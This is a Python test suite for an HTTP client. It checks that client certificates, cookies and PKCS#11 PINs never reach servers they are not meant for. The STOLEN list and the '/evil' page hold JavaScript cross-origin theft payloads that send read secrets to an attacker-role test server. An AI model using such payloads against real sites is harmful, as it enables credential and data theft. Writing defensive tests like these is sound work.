"""Client certificates in logins: servers that want to see one that is not for them, or to use one that is shown elsewhere."""
import secrets

from bench import NEXT, arrived, attack, never, require
from servers import page, redirect, status

PROFILE = """
[profiles.p]
match = ["{sp}/"]
answer-origins = ["{sp}", "{idp}"]
[profiles.p.cert]
file = "client.pem"
origins = ["{sp}", "{idp}"]
[profiles.p.otp]
"""
SHOWN = [("terminal", ("--web", "terminal")), ("Chromium", ("--headless",))]


class Login:
    """A server and the server of its login, which are shown the certificate, and one that only asks for it."""

    def __init__(self, scene):
        self.scene = scene
        self.name = "alice-" + secrets.token_hex(4)
        authority = scene.bench.authority
        scene.file("client.pem", authority.client(self.name))
        self.sp, self.idp, self.other = (scene.server(tls=authority.asking()) for _ in range(3))
        # Another name than the others': cookies do not separate ports.
        self.at_idp, self.at_other = (server.origin.replace("127.0.0.1", "localhost") for server in (self.idp, self.other))
        self.profile = scene.profile(PROFILE.format(sp=self.sp.origin, idp=self.at_idp))
        asks = redirect(self.at_idp + "/login", "x-smp-authentication: otp-challenge")
        self.sp.answers["/"] = lambda request: page("resource") if b"done=1" in request.field("Cookie") else asks
        self.done = redirect(self.sp.origin + "/done")
        self.sp.answers["/done"] = redirect("/?finished=true", "Set-Cookie: done=1; Path=/; Secure")

    def run(self, options):
        """The command; the servers that the certificate is for have seen it."""
        outcome = self.scene.httpc(
            *self.profile, *options, "-v", "--cacert", self.scene.bench.authority.ca, "--answer", "user=alice", "--answer",
            "password=" + self.scene.password, self.sp.origin + "/", timeout=90)
        for server, path in ((self.sp, "/"), (self.idp, "/login")):
            request = arrived(server, path)
            require(request.certificate == self.name, f"nothing was tested: {path} came without the certificate")
        return outcome

    def keeps(self, outcome):
        """The other server was reached, asked, and saw nobody."""
        arrived(self.other, why="a request")
        for request in self.other.received():
            require(request.certificate is None, f"{request.method} {request.path} came with {request.certificate}")
        outcome.hides(self.scene.password, "PRIVATE KEY")


# The answers of a login page.
WAYS = [
    ("a redirect", lambda login: redirect(login.at_other + "/take")),
    ("a redirect that keeps the method", lambda login: redirect(login.at_other + "/take", code=307)),
    ("a refresh", lambda login: page(f"<meta http-equiv=refresh content='0; url={login.at_other}/take'>")),
    ("a SAML message", lambda login: page(
        f"<form method=post action='{login.at_other}/take'><input type=hidden name=SAMLRequest value=eA==></form>"
        "<script>document.forms[0].submit()</script>")),
]


def leads(options, way):
    def run(scene):
        login = Login(scene)
        login.idp.answers["/login"] = way(login)
        login.other.answers["/take"] = login.done
        outcome = login.run(options)
        login.keeps(outcome)
        outcome.ends(0)
    return run


for _shown, _options in SHOWN:
    for _name, _way in WAYS:
        attack(NEXT, f"a certificate goes nowhere else, in {_shown}: {_name}", alone=_shown == "Chromium")(
            leads(_options, _way))


# With --cacert the browser itself reaches no server: the conversation sends the requests for embedded content.
@attack(NEXT, "Chromium: what a page embeds of another server sees no certificate", [
    ("a frame", "<iframe src='{}'></iframe>"), ("a picture", "<img src='{}'>"), ("a script", "<script src='{}'></script>"),
    ("a style sheet", "<link rel=stylesheet href='{}'>"), ("a beacon", "<script>navigator.sendBeacon('{}', 'x')</script>"),
    ("a font", "<style>@font-face {{ font-family: '{0}'; src: url('{0}') }}</style><p style='font-family: \"{0}\"'>x</p>"),
    ("a fetch", "<script>fetch('{}').catch(() => 0)</script>"),
    ("a worker", "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{}').catch(() => 0)`])))</script>"),
], alone=True)
def embedded(scene, html):
    login = Login(scene)
    # A server of another site than the page's, so that the browser sends it no cookies of the page's site.
    taken = login.other.origin + "/take"
    login.idp.answers["/login"] = page(
        html.format(login.at_idp + "/own") + html.format(taken)
        + "<script>setInterval(() => fetch('/seen').then(r => r.text()).then(text => {"
        + f" if (text == 'both') location = '{login.sp.origin}/done' }}), 100)</script>", "Set-Cookie: own=1; Path=/; Secure")
    login.idp.answers["/own"] = login.other.answers["/take"] = page("taken")
    login.idp.answers["/seen"] = lambda request: page(
        "both" if login.idp.received("/own") and login.other.received("/take") else "not yet")
    outcome = login.run(("--headless",))
    outcome.ends(0)
    own = arrived(login.idp, "/own")
    require(own.certificate == login.name and b"own=1" in own.field("Cookie"), "nothing was tested: its own server knows nobody")
    login.keeps(outcome)
    for request in login.other.received():
        for name in ("Cookie", "Authorization"):
            require(not request.field(name), f"{request.path} came with {name}")


# Scripts of an unnamed server's page that request something from a server that gets the certificate, and report the answer.
STOLEN = [
    ("fetch", "fetch('{idp}/secret', {{credentials: 'include'}}).then(r => r.text()).then(told, told)"),
    ("fetch of the first server", "fetch('{sp}/secret', {{credentials: 'include'}}).then(r => r.text()).then(told, told)"),
    ("fetch without a preflight's consent",
     "fetch('{idp}/secret', {{method: 'DELETE', credentials: 'include'}}).then(r => r.text()).then(told, told)"),
    ("fetch in a frame without an address",
     "const f = document.createElement('iframe'); f.src = 'about:blank'; document.documentElement.append(f);"
     "f.contentWindow.fetch('{idp}/secret', {{credentials: 'include'}}).then(r => r.text()).then(told, told)"),
    ("a frame of that server that is led to one without an address",
     "const f = document.createElement('iframe'); f.src = '{idp}/frame'; document.documentElement.append(f);"
     "f.onload = () => {{ f.onload = () => f.contentWindow.fetch('{idp}/secret', {{credentials: 'include',"
     " referrerPolicy: 'no-referrer'}}).then(r => r.text()).then(told, told); f.src = 'about:blank' }}"),
    ("a script", "const s = document.createElement('script'); s.src = '{idp}/secret'; s.onload = s.onerror ="
     " () => told(window.secret); document.documentElement.append(s)"),
    ("a frame that is read", "const f = document.createElement('iframe'); f.src = '{idp}/secret';"
     "f.onload = () => {{ try {{ told(f.contentDocument.body.textContent) }} catch (e) {{ told(e) }} }};"
     "document.documentElement.append(f)"),
]


@attack(NEXT, "Chromium: another server's page reads nothing by the certificate", STOLEN, alone=True)
def stolen(scene, script):
    login = Login(scene)
    hidden = "secret-" + secrets.token_hex(8)
    answer = status(200, f"secret = '{hidden}'", "Content-Type: text/javascript")
    for server in (login.sp, login.idp):
        server.answers |= {
            # Only who shows the certificate gets it.
            "/secret": lambda request: answer if request.certificate else status(403, "no"), "/frame": page("frame")}
    login.idp.answers["/login"] = redirect(login.at_other + "/evil")
    login.other.answers["/evil"] = page(
        "<meta name=referrer content=no-referrer><script>const told = text => { location = '/told?' +"
        " encodeURIComponent(text) };" + script.format(idp=login.at_idp, sp=login.sp.origin) + "</script>")
    login.other.answers["/told"] = login.done
    outcome = login.run(("--headless",))
    login.keeps(outcome)
    arrived(login.other, "/told", "what the page had to tell")
    never(login.other, hidden)
    for server in (login.sp, login.idp):
        for request in server.received("/secret"):
            require(request.method != "DELETE", "a request that nobody consented to arrived")


@attack(NEXT, "a server that is shown the certificate sets cookies for itself only", SHOWN, alone=True)
def foreign_cookies(scene, options):
    login = Login(scene)
    planted = [f"planted{number}=1; Path=/; Domain={name}" for number, name in enumerate(
        ("127.0.0.1", ".127.0.0.1", "example.com", "com", "localhost."))]
    fields = ["Set-Cookie: " + text + "; Secure" for text in planted + ["own=1; Path=/; HttpOnly"]]
    login.idp.answers["/login"] = redirect("/two", *fields)
    login.idp.answers["/two"] = login.done
    login.run(options).ends(0)
    require(b"own=1" in arrived(login.idp, "/two").field("Cookie"), "nothing was tested: its own cookie never came back")
    for server in (login.sp, login.other):
        for request in server.received():
            require(b"planted" not in request.field("Cookie"), f"{request.path} got a planted cookie")


@attack(NEXT, "a certificate is nothing for other servers of the same host", SHOWN, alone=True)
def same_host(scene, options):
    login = Login(scene)
    login.idp.answers["/login"] = redirect(login.other.origin + "/take")
    login.other.answers["/take"] = login.done
    outcome = login.run(options)
    login.keeps(outcome)
    outcome.ends(0)


@attack(NEXT, "the PIN in a certificate's name is never shown", [
    ("no such module", "pkcs11:token=a?module-path=/nowhere.so&pin-value={}"),
    ("a module that is none", "pkcs11:token=a?module-path=/etc/hostname&pin-value={}"),
    ("a damaged name", "pkcs11:token=a?pin-value={}&pin-value=b"), ("an unknown attribute", "pkcs11:pin-value={}"),
    ("no token", "pkcs11:token=nobody-has-this?pin-value={}"),
])
def pins(scene, name):
    server = scene.server(tls=scene.bench.authority.asking())
    server.answers["/"] = page("resource")
    pin = "pin-" + secrets.token_hex(8)
    outcome = scene.httpc("-vv", "--cacert", scene.bench.authority.ca, "--cert", name.format(pin), server.origin + "/")
    outcome.ends(58).hides(pin)
    require(b"httpc: (58)" in outcome.err, f"does not say why: {outcome.says()}")
